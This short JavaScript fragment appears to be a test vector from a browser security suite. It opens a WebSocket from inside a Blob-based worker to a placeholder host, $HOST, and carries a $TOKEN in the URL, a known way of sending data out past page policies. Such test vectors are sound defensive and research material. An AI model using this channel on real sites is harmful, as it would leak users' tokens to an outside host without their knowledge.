// vector: WebSocket in a blob worker
// where: page, worker
new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://$HOST/$TOKEN')"])));
